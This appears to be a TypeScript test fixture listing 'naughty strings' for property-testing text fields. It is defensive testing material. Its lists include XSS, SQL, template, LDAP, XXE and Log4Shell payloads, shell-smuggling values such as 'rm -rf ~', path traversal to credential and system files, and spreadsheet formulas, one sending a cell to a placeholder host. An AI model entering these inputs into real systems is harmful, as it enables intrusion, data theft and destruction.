/**
 * Texts that people type, paste or are sent, and programs stumble over: kinds of them, in our own words. Each is one line
 * that a name could be; what holds of them holds of every text field (test/property/injection.test.ts).
 */

/** Begins what moves a terminal. */
const ESC = '\u001b';

/** Run by a spreadsheet, or by what reads a list for one. */
const FORMULAS = [
  '=HYPERLINK("http://x","y")',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '%0A=1+1',
  "=cmd|' /C calc'!A0",
  '\u200b=1+1',
  '\uff1d1+1',
  '"=1+1',
  ';=1+1',
  '=1+1\n=2+2\r\n@x',
];

/** Acts on a terminal, a page, a database, a shell or a format that texts are put into. */
const CODE = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(2)>',
  ']]><!--&#0;&lt;b&gt;<svg/onload=alert(3)>',
  "'; DROP TABLE entry; --",
  "%' or 1=1 union select value from private --",
  "x'||(select 1)||'\\%_",
  '$(touch x) `id` ${x} %PATH% | tee x; rm -rf ~ && echo !!',
  `${ESC}[2J${ESC}]0;t\u0007\u009b2J\u0085`,
  `${ESC}]8;;http://x\u0007y${ESC}]8;;\u0007${ESC}P1$q${ESC}\\${ESC}c`,
  '{{name}} {{rows}} <%= 1 %> #{1} %s%n%d',
  '","ok":true}\u2028{"x":"',
  '(x) Tj) >> endobj %%EOF',
  '; * "x" expenses:x  1 VND\n  assets:x',
  '_x0041_ &amp; &#x202e;',
];

/** Paths and names that a system keeps for itself. */
const PATHS = [
  '../../../etc/passwd',
  'C:\\CON\\..\\x',
  'NUL.txt',
  '\\\\may\\chung',
  'file:///x',
  '~/.ssh',
  '-rf --yes',
];

/** Letters that are not what they look like, or look like nothing. */
const LETTERS = [
  '\u202eNguyễn\u2066 An\u200f',
  '\u061c\u2067Lê\u2069\u202d An',
  'Ngu\u200byễn\ufeff',
  '\u200d\u2060\u00ad\u180e\u034fAn\u{e0041}\u{e007f}',
  'a\u0000b\u0008\u007f',
  '\ud800Lê 😀👩‍👩‍👧',
  '\udc00\ud800🏳️‍🌈👍🏽🇻🇳\u{10ffff}\ufffe\uffff\ue000',
  `A${'\u0301\u0323\u0489'.repeat(120)}n`,
  'Nguye\u0302\u0303n Thi\u0323 A\u0301nh',
  'ﷺ ﬁ Ⅷ ㍿ ½ ٣ １２３ ß İ ı ſ',
  'a\u2028b\u2029c\u000bd\u000ce',
  '\u00a0\u3000An\u2003',
];

/** What a program may take for something of its own. */
const WORDS = [
  'null',
  'undefined',
  'NaN',
  '-Infinity',
  'true',
  '1e309',
  '0x1F',
  '-0',
  '__proto__',
  'constructor',
  'toString',
  'CON',
  '--json',
  '--',
];

/** Numbers, and what one program or another reads as a number. */
const NUMBERS = [
  '0',
  '1.00',
  '$1.00',
  '1/2',
  '1E2',
  '1E+02',
  '-1E-02',
  '1/0',
  '0/0',
  '-2147483648/-1',
  '0.00',
  '0..0',
  '.',
  ',',
  '0,,0',
  "1'000'000,00",
  '1 000 000.00',
  '1.000.000,00',
  '+84 912 000 123',
  '9'.repeat(96),
  '9007199254740993',
  'INF',
  'Infinity',
  '1#INF',
  '-1#IND',
  '1#QNAN',
  '1#SNAN',
  '0x0',
  '0xffffffffffffffff',
  '0b101',
  '0o17',
  '08',
  '+0',
  '1_000',
  '٠١٢٣٤٥٦٧٨٩',
  '०१२३',
  '１，０００，０００',
  '二十',
  '\u2212 5',
  '(5)',
  '50%',
  '5e',
  '2024-02-30',
  '12:60',
];

/** Words that languages and systems keep for themselves. */
const RESERVED = [
  'undef',
  '(null)',
  'None',
  'NIL',
  'nil',
  'NULL',
  '\\N',
  '#N/A',
  '#REF!',
  'TRUE',
  'FALSE',
  'yes',
  'no',
  'on',
  'hasOwnProperty',
  'valueOf',
  'prototype',
  'then',
  'length',
  'rowid',
  'select',
  'COM1',
  'LPT1.txt',
  'AUX',
  'PRN',
  'CLOCK$',
  'History',
  '[object Object]',
];

/** Letters of other peoples, some written from right to left, some with marks over marks. */
const TONGUES = [
  'محمد بن عبد الله',
  'اَلْعَرَبِيَّةُ',
  'בְּרֵאשִׁית בָּרָא',
  'An של Bình عن Cúc',
  '阮文安',
  '部落格 田中さん',
  'ｱﾅﾄ ヽ༼ຈل͜ຈ༽ﾉ',
  '김철수',
  '\u1100\u1161\u11a8',
  'ไก่จิกเด็กตายบนปากโอ่ง กำ ก็ ป๊',
  'នាយ សុខ',
  'မောင်လှ',
  'हिन्दी क्ष',
  'தமிழ் நி',
  '᚛ᚄᚓᚐᚋᚒᚄ᚜',
  'ǅ ǆ ŉ ẞ Σς ΐ',
  'Ðặng Ðình',
  'Đ đ Ɖ ɖ',
  '𝐍𝐠𝐮𝐲ễ𝐧 𝕬𝖓 𝒜𝓃 𝔸𝕟 𝙰𝚗',
  'uɐ uǝʎnƃu ˙ʇı',
  'ⁿᵍᵘʸᵉⁿ ₀₁₂ ª º ²',
  'Ⓐⓝ 🄰🄽 ｎｇｕｙễｎ',
  'ʕ•ᴥ•ʔ (╯°□°)╯︵ ┻━┻',
  'N̷̛̦g̸̢̛u̴͔͝y̵̰͘ễ̶͙n̸̯̍ ̵̧͂Ạ̸͐n̴̰̊',
  'Ω≈ç√∫˜µ≤≥÷ åß∂ƒ©˙∆˚¬…æ',
  '␀ ␛ ⌘ ﹏ ︻',
];

/** Signs of several code points that are seen as one. */
const SIGNS = [
  '👨‍👩‍👧‍👦',
  '👩🏿‍⚕️ 🧑🏻‍🤝‍🧑🏾',
  '🇻🇳🇺🇸🇦',
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  '1️⃣ #️⃣ ☎︎ ☎️',
  '❤️‍🔥',
  '🐵 🙈 🙉 🙊',
  '\u200d',
  '\ufe0f',
  '\u{1f3fd}',
];

/** Blanks, joins and what no letter has: each by itself between letters. */
const BLANKS = [
  ...Array.from(
    '\u00a0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a\u202f\u205f\u3000',
  ),
  ...Array.from('\u0085\u180e\u200b\u200c\u2060\u2061\u2064\ufeff\u00ad\u034f\u115f\u3164\uffa0\u2800'),
  ...Array.from('\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u206a\u206f'),
  ...Array.from(
    '\ufff9\ufffa\ufffb\ufffc\ufffd\ufdd0\u0378\ue000\uf8ff\u{f0000}\u{10fffd}\u{1fffe}\u{e0100}',
  ),
].map((letter) => `A${letter}n`);

/** Half a letter, where there should be a whole one. */
const HALVES = ['\ud800', '\udfff', 'A\udc00n', '\ude00\ud83d', 'An\ud83d'];

/** Marks that open what nothing closes. */
const MARKS = [
  "'",
  '"',
  "''",
  '""',
  "'\"'",
  '`',
  '``',
  '\\',
  '\\\\',
  '“An”',
  '‘',
  '«',
  '<',
  '>',
  '&',
  '<!--',
  ']]>',
  '/*',
  '--',
  '#',
  '%',
  '%%',
  '$',
  '*',
  '?',
  '|',
  '^',
  '~',
  '{',
  '[',
  '()',
  ';',
  ':',
  '=',
  '+',
  '@',
  '-',
  '_',
  ',./;\'[]\\-=<>?:"{}|_+!@#$%^&*()`~',
];

/** Written for one reader, and harmless for all others. */
const FORMS = [
  '1; SELECT pg_sleep(9)',
  "1' OR '1'='1' /*",
  'admin"--',
  '*)(uid=*))(|(uid=*',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hosts">]><x>&e;</x>',
  '&lol9;',
  '%x%p%08x%n%n%n',
  '{0} {0:x} %(name)s',
  'eval("puts 1") #{`id`} System("ls")',
  '${7*7} {{7*7}} #{7*7} <%=7*7%> {%x%} *{7*7}',
  '${jndi:ldap://x/a}',
  '() { :; }; touch x',
  '`touch x`; touch x && touch x || touch x',
  '$HOME $ENV{"HOME"} %USERPROFILE% !PATH!',
  '<? echo 1 ?> <!--#exec cmd="ls"-->',
  '<a href="javascript:alert(1)">x</a>',
  '<body onload=alert(1)> <input autofocus onfocus=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<details open ontoggle=alert(1)><marquee onstart=alert(1)>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt> ＜script＞alert(1)＜/script＞',
  '<style>@import"//x"</style><link rel=stylesheet href=//x><base href=//x>',
  "' onmouseover='alert(1)' x='",
  '&#x3c;script&#62; \\u003cscript\\x3e',
  '</title></table></html>',
  'data:text/html,<script>alert(1)</script>',
  'mailto:a@b?bcc=c\r\nBcc: d@e',
  'Set-Cookie: x=1\r\n\r\n<html>',
  'DDE("cmd";"/C calc";"x")',
  '=IMPORTXML(CONCAT("http://x?",A1),"//a")',
  '＋1 ﹣1 ＠SUM(1) ﹦1',
  '\\input{x} \\write18{id} $$x$$',
  '[x](javascript:alert(1)) ![](//x) | a | b |',
  `${ESC}[31mđỏ${ESC}[0m ${ESC}[1A${ESC}[2K ${ESC}[?1049h`,
  `${ESC}]52;c;eA==\u0007 ${ESC}[6n ${ESC}P+q544e${ESC}\\`,
  '\u009b31m\u009d0;x\u009c\u0090x\u009c',
  'An\u0008\u0008\u0008Bình\u0007\u000e\u000f',
  'dòng một\ndòng hai\r\ndòng ba\rdòng bốn',
];

/** Files that systems have. */
const PLACES = [
  '/dev/null; touch x',
  '/etc/passwd%00.csv',
  '../../../../../../proc/self/environ',
  '..\\..\\windows\\win.ini',
  'C:\\boot.ini',
  '\\\\?\\C:\\x',
  '/',
  '..',
  'con.txt:stream',
  'x/../y',
];

/** Other files and words after an option. */
const DASHED = ['-', '--help', '-o x', '--book=/x', '@file', '--no-input'];

/** Longer than any column, page or screen. */
const LONG = [
  'W'.repeat(5000),
  'Nguyễn '.repeat(1200),
  '<b>'.repeat(700),
  '\u{1f600}'.repeat(900),
  'ế'.repeat(3000),
];

export const NAUGHTY: readonly string[] = [
  ...FORMULAS,
  ...CODE,
  ...PATHS,
  ...LETTERS,
  ...WORDS,
  ...LONG,
  ...NUMBERS,
  ...RESERVED,
  ...TONGUES,
  ...SIGNS,
  ...BLANKS,
  ...HALVES,
  ...MARKS,
  ...FORMS,
  ...PLACES,
  ...DASHED,
];
